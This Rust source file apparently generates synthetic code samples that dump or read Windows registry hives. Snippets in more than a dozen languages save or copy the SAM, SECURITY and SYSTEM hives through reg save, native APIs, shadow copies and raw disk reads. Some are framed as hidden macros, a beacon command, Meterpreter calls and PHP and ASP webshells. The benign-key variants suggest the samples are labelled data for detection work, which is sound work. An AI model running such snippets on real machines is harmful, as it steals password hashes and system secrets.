//! Programs of one's own that save, open or read the hives: Win32, NT and offline-registry
//! calls in C, C#, Rust, Go, Nim, Delphi and Python, script hosts, and raw NTFS readers.

use crate::generate::family::{Family, Kind::Code};

const WIN: &[&str] = &[
    concat!(
        r#"HKEY h;⏎«EnablePrivilege(SE_BACKUP_NAME);⏎¦SetPrivilege(L"SeBackupPrivilege", TRUE);⏎¦»«LSTATUS "#,
        r#"s = ¦if (»RegOpenKeyExW(HKEY_LOCAL_MACHINE, L"{kw}", REG_OPTION_BACKUP_RESTORE, KEY_READ, &h)«;¦"#,
        r#" == ERROR_SUCCESS)»⏎«   »RegSaveKey«W¦ExW»(h, L"{out}", NULL«, REG_LATEST_FORMAT¦, "#,
        "REG_STANDARD_FORMAT¦, REG_NO_COMPRESSION»);"
    ),
    concat!(
        r#"RegConnectRegistry«A¦W»(«L»"\\\\{plainhost}", HKEY_LOCAL_MACHINE, "#,
        r#"&hRemote);⏎RegOpenKeyEx(hRemote, «L»"{kw}", REG_OPTION_BACKUP_RESTORE, «KEY_READ¦"#,
        r#"MAXIMUM_ALLOWED», &hKey);⏎RegSaveKeyEx(hKey, «L»"{out}", NULL, 1);"#
    ),
    concat!(
        "NTSTATUS st = NtOpenKey«Ex»(&key, KEY_READ, &attr«, REG_OPTION_BACKUP_RESTORE»); // ",
        r"\Registry\Machine\{kw}⏎st = NtSaveKey«Ex»(key, file«, REG_LATEST_FORMAT»);"
    ),
    concat!(
        r#"RtlInitUnicodeString(&name, L"\\REGISTRY\\MACHINE\\{kw}");⏎InitializeObjectAttributes(&oa, "#,
        "&name, OBJ_CASE_INSENSITIVE, NULL, NULL);⏎«status = ¦»ZwOpenKey(&hKey, KEY_ALL_ACCESS, ",
        "&oa);⏎ZwSaveKey(hKey, hFile);"
    ),
    concat!(
        r#"ORHKEY hive;⏎OROpenHive(L"{hf}", &hive);⏎OROpenKey(hive, L"{ok}", &sub);⏎«ORGetValue(sub, NULL, "#,
        r#"L"F", &t, buf, &n);¦ORSaveHive(hive, L"{out}", 6, 1);¦OREnumKey(sub, i, name, &len, NULL, NULL, "#,
        "NULL);»"
    ),
    concat!(
        r#"RegLoadKey«A¦W»(HKEY_«LOCAL_MACHINE¦USERS», «L»"{alnum5}", "#,
        r#"«L»"{hf}");⏎RegOpenKeyEx(HKEY_LOCAL_MACHINE, «L»"{alnum5}", 0, KEY_READ, &h);"#
    ),
    r#"RegLoadAppKey(L"{hf}", &hk, KEY_READ, 0, 0);"#,
    concat!(
        r#"«const char* hives[] = { ¦LPCWSTR hives[] = { L»"{kw}"«, "{stem}"» };⏎for (int i = 0; i < "#,
        "sizeof(hives)/sizeof(*hives); i++) SaveHive(hives[i], outDir);"
    ),
    concat!(
        "«BOOL¦bool¦int» «SaveHive¦DumpKey¦BackupKey¦Save»() { HKEY k; «auto r = ¦",
        r#"»RegOpenKeyExA(HKEY_LOCAL_MACHINE, "{kw}", «0¦REG_OPTION_BACKUP_RESTORE», KEY_READ, &k); return "#,
        r#"RegSaveKeyA(k, "{out}", NULL) == 0; }"#
    ),
    concat!(
        r"for (DWORD i = 0; RegEnumKeyExW(hKey /* HKLM\{k} */, i, name, &cch, 0, 0, 0, 0) == ",
        r#"ERROR_SUCCESS; i++) RegQueryValueExW(«hUser¦sub», L"V", 0, 0, buf, &cb);"#
    ),
    concat!(
        r#"RegQueryInfoKeyA(OpenHKLM("{k}"), cls, &len, 0,0,0,0,0,0,0,0,0);⏎RegQueryValueExA(hAcct, "F", "#,
        "NULL, NULL, F, &fl);"
    ),
    concat!(
        r#"HANDLE h = CreateFileW(L"{hf}", GENERIC_READ, FILE_SHARE_READ|FILE_SHARE_WRITE|FILE_SHARE_DELETE"#,
        ", NULL, OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS, NULL);⏎«BackupRead(h, buf, sizeof buf, &n, ",
        r#"FALSE, FALSE, &ctx);¦ReadFile(h, buf, size, &n, NULL);¦CopyToFile(h, L"{out}");»"#
    ),
    r#"CopyFile«A¦W¦Ex»(«L»"{hf}", «L»"{out}", FALSE);"#,
    concat!(
        r#"for (int i = 1; i < {5..30}; i++) { swprintf(p, L"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShado"#,
        r#"wCopy%d\\{tail}", i); «if (PathFileExistsW(p)) ¦»CopyFileW(p, L"{out}", 0); }"#
    ),
    concat!(
        r#"char path[MAX_PATH]; sprintf(path, "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy%d\\{tail"#,
        r#"}", n); FILE* f = fopen(path, "rb");"#
    ),
    r#"NtfsReader r(L"\\\\.\\C:"); r.CopyFile(L"{tail}", L"{out}"); // raw volume"#,
    concat!(
        "IVssBackupComponents* vss; vss->InitializeForBackup(); «vss->StartSnapshotSet(&id); ¦",
        r#"»vss->DoSnapshotSet(&async); «wcscat(prop.m_pwszSnapshotDeviceObject, L"\\{tail}"); "#,
        r#"CopyFileW(prop.m_pwszSnapshotDeviceObject, L"{out}", 0);¦CopyFromSnapshot(L"{tail}");»"#
    ),
    concat!(
        r#"bof: BeaconPrintf(CALLBACK_OUTPUT, "saving %s", "{kw}"); ADVAPI32$RegSaveKeyExA(key, "{out}", "#,
        "NULL, 1);"
    ),
];

const OTHERLANG: &[&str] = &[
    concat!(
        r#"[DllImport("advapi32.dll"«, CharSet = CharSet.Unicode»)] static extern int RegSaveKey(IntPtr h, "#,
        r#"string f, IntPtr sa);⏎«var¦RegistryKey» k = Registry.LocalMachine.OpenSubKey(@"{ks}"«, "#,
        "RegistryKeyPermissionCheck.ReadSubTree, RegistryRights.ReadKey»);⏎RegSaveKey(k.Handle.DangerousG",
        r#"etHandle(), @"{outp}", IntPtr.Zero);"#
    ),
    concat!(
        r#"foreach (var Hive in new[] { "{ks}"«, "{stem}"» })⏎{⏎    «var p = ¦»Process.Start("reg.exe", "#,
        r#"$"save HKLM\\{Hive} {Path.GetTempPath()}{Hive}.«hiv¦sav»");⏎}"#
    ),
    concat!(
        "RegistryKey.OpenBaseKey(RegistryHive.LocalMachine, ",
        r#"RegistryView.Default).OpenSubKey(@"{k1}").«GetSubKeyNames().ToList().ForEach(Console.WriteLine)¦"#,
        r#"GetValue("F") as byte[]»;"#
    ),
    r#"var hive = new RegistryHive(@"{hfp}"); hive.ParseHive(); var key = hive.GetKey(@"{ok1}");"#,
    concat!(
        r#"using (var src = new FileStream(@"{hfp}", FileMode.Open, FileAccess.Read, FileShare.ReadWrite)) "#,
        r#"src.CopyTo(File.Create(@"{outp}"));"#
    ),
    r#"File.Copy($@"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{Num}\{tailp}", @"{outp}");"#,
    concat!(
        r#"var shadow = new ManagementClass(@"\\.\root\cimv2:Win32_ShadowCopy").InvokeMethod("Create", new "#,
        r#"object[] { @"C:\", "ClientAccessible" });⏎File.Copy(device + @"\{tailp}", @"{outp}");"#
    ),
    concat!(
        r#"with winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"{ks}", 0, winreg.KEY_READ«| "#,
        r#"winreg.KEY_WOW64_64KEY») as k:⏎    «winreg.SaveKey(k, r"{outp}")¦print([winreg.EnumKey(k, i) "#,
        "for i in range(winreg.QueryInfoKey(k)[0])])»"
    ),
    concat!(
        "«import ctypes; »advapi = ctypes.windll.advapi32; h = ctypes.c_void_p(); ",
        r#"advapi.RegOpenKeyExW(0x80000002, "{kw}", 4, 0x20019, ctypes.byref(h)); advapi.RegSaveKeyW(h, "#,
        r#"r"{outp}", None)"#
    ),
    concat!(
        r#"reg = Registry.Registry("{lx}"); «key = reg.open("{ok}")⏎for v in key.values(): print(v.name(), "#,
        "v.value())¦print(reg.root().subkeys())»"
    ),
    r#"hive = RegistryHive("{lx}")⏎for entry in hive.recurse_subkeys(«"\\{ok}"»): print(entry.path)"#,
    concat!(
        "win32security.AdjustTokenPrivileges(tok, 0, [(win32security.LookupPrivilegeValue(None, ",
        "'SeBackupPrivilege'), 2)]); win32api.RegSaveKey(win32api.RegOpenKeyEx(win32con.HKEY_LOCAL_MACHIN",
        "E, '{kw}', win32con.REG_OPTION_BACKUP_RESTORE, win32con.KEY_ALL_ACCESS), r'{outp}', None)"
    ),
    r#"hive = RegistryHive.from_file("{lx}") # dissect⏎print(list(hive.open("{ok}").subkeys()))"#,
    concat!(
        r#"t = Target.open("{stem}.«E01¦vmdk¦dd»")⏎fh = t.fs.path("sysvol/{tailu}").open("rb")⏎open("{stem}"#,
        r#"", "wb").write(fh.read())"#
    ),
    concat!(
        r#"let hklm = RegKey::predef(HKEY_LOCAL_MACHINE);⏎let key = hklm.open_subkey_with_flags(r"{k1}", "#,
        r#"KEY_READ)?;⏎«for k in key.enum_keys() { println!("{k:?}"); }¦let v: RegValue = "#,
        r#"key.get_raw_value("F")?;»"#
    ),
    concat!(
        r#"unsafe { RegOpenKeyExW(HKEY_LOCAL_MACHINE, w!("{kw}"), «REG_OPTION_BACKUP_RESTORE.0¦0», "#,
        r#"KEY_READ, &mut h); RegSaveKeyExW(h, w!("{out}"), None, REG_LATEST_FORMAT) };"#
    ),
    r#"std::fs::copy(r"{hfp}", r"{outp}")«.expect("copy")¦?»;"#,
    r#"Command::new("reg").args(["save", r"HKLM\{ks}", r"{outp}"«, "/y"»])«.output()¦.status()»?;"#,
    concat!(
        r#"exec.Command("reg«.exe»", "save", `HKLM\{ks}`, `{outp}`«, "/y"»).«Run()¦CombinedOutput()¦"#,
        "Output()»"
    ),
    concat!(
        "windows.RegOpenKeyEx(windows.HKEY_LOCAL_MACHINE, windows.StringToUTF16Ptr(`{ks}`), 0, ",
        "windows.KEY_READ, &h)⏎procRegSaveKey.Call(uintptr(h), uintptr(unsafe.Pointer(out)), 0) // {outp}"
    ),
    concat!(
        "k, _ := registry.OpenKey(registry.LOCAL_MACHINE, `{k1}`, registry.READ)⏎names, _ := ",
        "k.«ReadSubKeyNames(-1)¦ReadValueNames(0)»"
    ),
    r#"let res = execCmdEx(r"reg save HKLM\{ks} {outp}") # nim"#,
    r#"discard RegSaveKeyW(hk, newWideCString(r"{outp}"), nil) # {ks}"#,
    concat!(
        "«Reg := TRegistry.Create(KEY_READ); Reg.RootKey := HKEY_LOCAL_MACHINE; ¦",
        "»«Reg.OpenKeyReadOnly('{k1}');¦Reg.SaveKey('{ks}', '{outp}');»"
    ),
    r"ShellExecute(0, nil, 'reg.exe', 'save HKLM\{ks} {outp} /y', nil, SW_HIDE);",
    r"child_process.exec«Sync»(`reg save HKLM\\{kw} {out}`);",
    r#"Runtime.getRuntime().exec(new String[]{"reg", "save", "HKLM\\{kw}", "{out}"});"#,
    r#"Win32::TieRegistry: $Registry->{"LMachine/{ku}/"}; `reg save HKLM\\{kw} {out}`;"#,
    concat!(
        "require 'win32/registry'; Win32::Registry::HKEY_LOCAL_MACHINE.open('{k1}') { |r| r.each_key { ",
        "|k, w| puts k } }"
    ),
    "session.fs.file.download_file('{stem}', '{hf}')",
    "client.sys.registry.open_key(HKEY_LOCAL_MACHINE, '{k1}', KEY_READ).«enum_key¦query_value('F')»",
];

const HOSTS: &[&str] = &[
    r#"Set sh = CreateObject("WScript.Shell")⏎sh.Run "«cmd /c »reg save HKLM\{ks} {outp}« /y»", 0, True"#,
    r#"Set fso = CreateObject("Scripting.FileSystemObject")⏎fso.CopyFile "{hfp}", "{outp}"«, True»"#,
    concat!(
        r#"Dim fso: Set fso = CreateObject("Scripting.FileSystemObject"): fso.GetFile("{hfp}").Copy "#,
        r#""{outp}""#
    ),
    concat!(
        r#"Const HKLM = &H80000002⏎Set oReg = GetObject("winmgmts:{impersonationLevel=impersonate}!\\«.¦"#,
        r#"{plainhost}»\root\default:StdRegProv")⏎«oReg.EnumKey HKLM, "{k1}", subs⏎For Each s In subs: "#,
        r#"WScript.Echo s: Next¦oReg.GetBinaryValue HKLM, "{k1}", "«F¦V»", bytes¦oReg.EnumValues HKLM, "#,
        r#""{k1}", names, types»"#
    ),
    concat!(
        r#"Set wmi = GetObject("winmgmts:\\«.¦{plainhost}»\root\cimv2")⏎wmi.Get("Win32_ShadowCopy").Create "#,
        r#""C:\", "ClientAccessible", id⏎«sh.Run "cmd /c copy " & dev & "\{tailp} {outp}", 0¦fso.CopyFile "#,
        r#"dev & "\{tailp}", "{outp}"»"#
    ),
    concat!(
        r#"GetObject("winmgmts:\\{plainhost}\root\cimv2:Win32_Process").Create "«cmd /c »reg save "#,
        r#"HKLM\{ks} {outp}", Null, Null, pid"#
    ),
    concat!(
        r#"var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c reg save HKLM\\{kw} {out}", 0«, "#,
        "true»);"
    ),
    r#"var f = new ActiveXObject("Scripting.FileSystemObject"); f.CopyFile("{hf}", "{out}");"#,
    concat!(
        r#"<script language="«VBScript¦JScript»">CreateObject("WScript.Shell").Run "reg save HKLM\{ks} "#,
        r#"{outp}",0</script>"#
    ),
    concat!(
        r#"<job><script language="JScript">new ActiveXObject("WScript.Shell").Exec("reg save HKLM\\{kw} "#,
        r#"{out}")</script></job>"#
    ),
    concat!(
        r#"Sub «AutoOpen¦Document_Open¦Workbook_Open»()⏎    Shell "cmd /c reg save HKLM\{ks} {outp}", "#,
        "vbHide⏎End Sub"
    ),
    r#"Private Sub {alnum6}()⏎  FileCopy "{hfp}", "{outp}"⏎End Sub"#,
    r"Run(@ComSpec & ' /c reg save HKLM\{ks} {outp}', '', @SW_HIDE)",
    r#"FileCopy("{hfp}", "{outp}", 1) ; AutoIt"#,
    r"Run, %ComSpec% /c reg save HKLM\{ks} {outp},, Hide",
    r"ExecWait 'reg save HKLM\{ks} {outp}'",
    r#"nsExec::ExecToLog 'cmd /c copy "{hfp}" "{outp}"'"#,
    r#"cscript //nologo //e:vbscript {dir}\{stem}.vbs ⏎' RegRead("HKLM\{k1}\«F¦V»")"#,
    concat!(
        "$shell = New-Object -ComObject Shell.Application; $shell.ShellExecute('reg.exe', 'save ",
        r"HKLM\{ks} {outp}', '', 'runas', 0)"
    ),
    concat!(
        r"EXEC sp_OACreate 'wscript.shell', @o OUT; EXEC sp_OAMethod @o, 'run', NULL, 'reg save HKLM\{ks} ",
        "{outp}'"
    ),
    r#"<?php «system¦exec¦shell_exec¦passthru»("reg save HKLM\\{kw} {out}"); ?>"#,
    r#"<%eval request("{stem}")%> z={alnum8}&cmd=copy "{hfp}" "{outp}""#,
];

const ACTS: &[(&str, &str)] = &[
    ("kw", r"«SAM¦SAM¦SAM¦SECURITY¦SYSTEM¦SAM\\SAM¦sam¦security»"),
    ("k", r"«SAM¦SAM¦SAM¦SECURITY¦SAM\\SAM¦SAM\\SAM\\Domains\\Account¦SECURITY\\Policy¦sam¦security»"),
    ("ks", "«SAM¦SAM¦{whole}¦SECURITY¦sam»"),
    ("k1", "«SAM¦SAM¦SAM¦SECURITY¦sam¦{inner}»"),
    ("ku", "«SAM/SAM/Domains/Account¦SAM¦SECURITY/Policy/Secrets»"),
    ("out", OUT),
    ("outp", r"{dir}\{outname}"),
    (
        "hf",
        concat!(
            r"«C:\\Windows\\System32\\config\\SAM¦C:\\Windows\\System32\\config\\{whole}¦",
            r"C:\\Windows\\System32\\config\\RegBack\\SAM¦\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{",
            r"1..9}\\Windows\\System32\\config\\{whole}¦\\\\{plainhost}\\C$\\Windows\\System32\\config\\{secre",
            r"t}¦D:\\Windows\\System32\\config\\SAM»"
        ),
    ),
    ("hfp", "{hivefile}"),
    ("ok", r"«SAM\\Domains\\Account¦SAM\\Domains\\Account\\Users¦SAM\\Domains\\Account\\Users\\{rid}»"),
    ("ok1", r"SAM\Domains\Account«\Users«\{rid}»»"),
    ("tail", r"«Windows\\System32\\config\\{whole}¦Windows\\System32\\config\\SAM»"),
    ("tailp", r"Windows\System32\config\{whole}"),
    ("tailu", "«Windows/System32/config/SAM¦windows/system32/config/{secret}»"),
    ("lx", "«{lxhive}¦{lxconfig}/SAM»"),
];

const OTHERS: &[(&str, &str)] = &[
    (
        "kw",
        concat!(
            r"«SOFTWARE¦SOFTWARE\\{product}¦SYSTEM\\CurrentControlSet\\Services\\{svcname}¦",
            r"SYSTEM\\CurrentControlSet\\Control\\Lsa¦HARDWARE¦COMPONENTS¦SOFTWARE\\Samsung¦SYSTEM\\Setup¦",
            r"DRIVERS¦SOFTWARE\\Microsoft\\Security Center»"
        ),
    ),
    (
        "k",
        concat!(
            r"«SOFTWARE¦SOFTWARE\\{product}¦SYSTEM\\CurrentControlSet\\Services\\{svcname}¦",
            r"SYSTEM\\CurrentControlSet\\Control\\Lsa¦HARDWARE¦COMPONENTS¦SOFTWARE\\Samsung¦SYSTEM\\Setup¦",
            r"DRIVERS¦SOFTWARE\\Microsoft\\Security Center»"
        ),
    ),
    ("ks", "{otherkey}"),
    ("k1", "«{otherkey}¦SOFTWARE¦{softkey}¦{syskey}»"),
    ("ku", "«SOFTWARE/{product}¦SYSTEM/CurrentControlSet/Services/{svcname}»"),
    ("out", OUT),
    ("outp", r"{dir}\{outname}"),
    (
        "hf",
        concat!(
            r"«C:\\Windows\\NTDS\\ntds.dit¦C:\\Windows\\System32\\config\\SOFTWARE¦",
            r"C:\\Users\\{first}\\NTUSER.DAT¦\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{1..9}\\Window",
            r"s\\NTDS\\ntds.dit¦\\\\{plainhost}\\C$\\{stem}\\{stem}.txt¦C:\\Users\\sam\\security.docx¦",
            r"C:\\ProgramData\\{product}\\system.json»"
        ),
    ),
    ("hfp", "{otherfile}"),
    (
        "ok",
        concat!(
            r"«Microsoft\\Windows NT\\CurrentVersion¦Software\\Microsoft\\Windows\\CurrentVersion\\Run¦",
            r"ControlSet001\\Services\\{svcname}»"
        ),
    ),
    ("ok1", r"«Microsoft\Windows\CurrentVersion\Run¦Software\{vendor}¦ControlSet001\Control\ComputerName»"),
    ("tail", r"«Windows\\NTDS\\ntds.dit¦Users\\{first}\\{stem}.docx¦Windows\\System32\\config\\SOFTWARE»"),
    (
        "tailp",
        concat!(
            r"«Windows\NTDS\ntds.dit¦Users\{user}\NTUSER.DAT¦Windows\System32\config\SOFTWARE¦",
            r"{stem}\{stem}.mdf»"
        ),
    ),
    ("tailu", "«Windows/NTDS/ntds.dit¦Users/{first}/NTUSER.DAT¦Windows/System32/winevt/Logs/Security.evtx»"),
    ("lx", "{lxother}"),
];

const OUT: &str = r"C:\\«temp¦Windows\\Temp¦Users\\Public¦ProgramData¦PerfLogs»\\{outname}";

pub const FAMILIES: &[Family] = &[
    Family::act("native-api", "native-hive", "native-other", Code, WIN).slots(ACTS).weight(12),
    Family::other("native-api", "native-other", Code, WIN).slots(OTHERS),
    Family::act("native-langs", "languages-hive", "languages-other", Code, OTHERLANG).slots(ACTS).weight(14),
    Family::other("native-langs", "languages-other", Code, OTHERLANG).slots(OTHERS).weight(12),
    Family::act("script-hosts", "script-host-hive", "script-host-other", Code, HOSTS).slots(ACTS).weight(12),
    Family::other("script-hosts", "script-host-other", Code, HOSTS).slots(OTHERS),
];
